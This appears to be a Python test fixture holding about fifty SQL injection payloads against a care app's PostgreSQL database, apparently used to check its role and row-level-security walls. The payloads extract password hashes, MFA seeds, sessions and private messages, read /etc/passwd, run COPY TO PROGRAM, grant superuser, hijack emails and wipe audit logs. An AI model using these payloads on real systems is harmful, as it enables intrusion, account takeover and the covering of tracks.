"""Fifty texts that somebody has managed to put into a statement: expressions, and whole statements.

{other} is whom they are about, {me} whoever's door it is, {talk} a conversation of others, {owner} who owns the tables.
`ts_stat` stands for the functions that ask whatever they are given, as whoever the settings say by then.
"""

MESSAGES, HASHES = ("content", "messages_v2"), ("password", "members")
AS_THE_SYSTEM = "set_config('role', 'care_system', true)"
OUTSIDE = "set_config('role', 'none', true)"


def _all(column, table):
    return f"(SELECT string_agg({column}::text, '|') FROM {table})"


def _asked(column, table, *settings):
    """After these settings, in the same expression."""
    question = f"SELECT array_to_tsvector(ARRAY[{column}::text]) FROM {table}"
    return f"concat({', '.join(settings)}, (SELECT string_agg(word, '|') FROM ts_stat('{question}')))"


EXPRESSIONS = {
    "messages": _all("content", "messages_v2"),
    "messages of one": "(SELECT string_agg(content, '|') FROM messages_v2 WHERE sender_id = '{other}')",
    "threads": _all("m", "thread_messages AS m"),
    "hashes": _all("password", "members"),
    "hashes by the view": _all("password", "member_secrets"),
    "seeds": _all("data", "mfa_authenticator"),
    "sessions": _all("session_key", "django_session"),
    "tokens": _all("t", "knox_authtoken AS t"),
    "browsers": _all("session_key", "usersessions_usersession"),
    "telephone numbers": _all("value", "contact_details"),
    "mails": _all("m", "mails AS m"),
    "another member's messages": _asked(*MESSAGES, "set_config('app.user_id', '{other}', true)"),
    "another member's messages, with a proof of one's own making": _asked(
        *MESSAGES, "set_config('app.identity', 'k:authenticated:{other}:member:0:00', true)"
    ),
    "another member's numbers": _asked("value", "contact_details", "set_config('app.user_id', '{other}', true)"),
    "the system's messages": _asked(*MESSAGES, AS_THE_SYSTEM),
    "the system's messages, without row security": _asked(
        *MESSAGES, AS_THE_SYSTEM, "set_config('row_security', 'off', true)"
    ),
    "the system's numbers": _asked("value", "contact_details", AS_THE_SYSTEM),
    "the system's hashes": _asked(*HASHES, AS_THE_SYSTEM),
    "the system's hashes, for accounts": _asked(
        "password", "member_secrets", AS_THE_SYSTEM, "set_config('app.reason', 'account', true)"
    ),
    "the system's seeds, to sign in": _asked(
        "data", "mfa_authenticator", AS_THE_SYSTEM, "set_config('app.reason', 'sign_in', true)"
    ),
    "the system's sessions": _asked("session_key", "django_session", AS_THE_SYSTEM),
    "the team's messages": _asked(*MESSAGES, "set_config('role', 'care_staff', true)"),
    "the login's messages": _asked(*MESSAGES, OUTSIDE),
    "the login's hashes": _asked(*HASHES, OUTSIDE),
    "the login's seeds": _asked("data", "mfa_authenticator", OUTSIDE),
    "the login's sessions": _asked("session_key", "django_session", OUTSIDE),
    "the login's browsers": _asked("session_key", "usersessions_usersession", OUTSIDE),
    "the owner's hashes": _asked(*HASHES, "set_config('role', '{owner}', true)"),
    "a write in a question": f"concat({OUTSIDE}, (SELECT count(*) FROM ts_stat("
    "'DELETE FROM members RETURNING town_words')))",
    "a file of the server": "pg_read_file('/etc/passwd')",
}

_DO = "DO $injected$ BEGIN {} END $injected$"
STATEMENTS = {
    "one's own rank": "UPDATE members SET is_superuser = true, is_staff = true WHERE id = '{me}'",
    "one's own group": "INSERT INTO members_groups (member_id, group_id) SELECT '{me}', id FROM auth_group",
    "another's address": "UPDATE members SET email = 'evil@example.org' WHERE id = '{other}'",
    "another's hash": "UPDATE members SET password = '!' WHERE id = '{other}'",
    "a forged message": "INSERT INTO messages_v2 (conversation_id, sender_id, content)"
    " VALUES ('{talk}', '{other}', 'x')",
    "changed messages": "UPDATE messages_v2 SET content = 'x'",
    "no messages": "DELETE FROM messages_v2",
    "no audit": "DELETE FROM audit_entries",
    "an emptied audit": "TRUNCATE audit_entries",
    "another's help request": "UPDATE help_requests SET status = 'closed' WHERE user_id = '{other}'",
    "walls off": "ALTER TABLE messages_v2 NO FORCE ROW LEVEL SECURITY",
    "another acting_member": "CREATE OR REPLACE FUNCTION acting_member() RETURNS uuid LANGUAGE sql"
    " RETURN '{other}'::uuid",
    "the owner": 'SET ROLE "{owner}"',
    "two statements": "SELECT set_config('role', 'none', true); SELECT password FROM members",
    "two statements as the system": "SET ROLE care_system; SELECT content FROM messages_v2",
    "a program": "COPY members TO PROGRAM 'cat'",
    "the login's rank": _DO.format("SET LOCAL ROLE none; UPDATE members SET is_superuser = true WHERE id = '{me}';"),
    "the login's group": _DO.format(
        "SET LOCAL ROLE none; INSERT INTO members_groups (member_id, group_id) SELECT '{me}', id FROM auth_group;"
    ),
    "the login's address of another": _DO.format(
        "SET LOCAL ROLE none; UPDATE members SET email = 'evil@example.org' WHERE id = '{other}';"
    ),
    "the login's help requests": _DO.format("SET LOCAL ROLE none; UPDATE help_requests SET title = 'Bring bread';"),
    "the login's seeds taken away": _DO.format("SET LOCAL ROLE none; DELETE FROM mfa_authenticator;"),
    "the login's list of what the admin did": _DO.format("SET LOCAL ROLE none; DELETE FROM django_admin_log;"),
    "the login's list, in another's name": _DO.format(
        "SET LOCAL ROLE none; UPDATE django_admin_log SET user_id = '{other}';"
    ),
    "the login's news": _DO.format("SET LOCAL ROLE none; UPDATE team_news SET body_en = 'Send it here.';"),
    "the login's news taken away": _DO.format("SET LOCAL ROLE none; DELETE FROM team_news;"),
    "the system's forged message": _DO.format(
        "SET LOCAL ROLE care_system; INSERT INTO messages_v2 (conversation_id, sender_id, content)"
        " VALUES ('{talk}', '{other}', 'x');"
    ),
    "the system's rank": _DO.format(
        "SET LOCAL ROLE care_system; PERFORM set_config('app.reason', 'account', true);"
        " UPDATE members SET is_superuser = true WHERE id = '{me}';"
    ),
    "the system's archive": _DO.format("SET LOCAL ROLE care_system; UPDATE conversations_v2 SET updated_at = now();"),
}
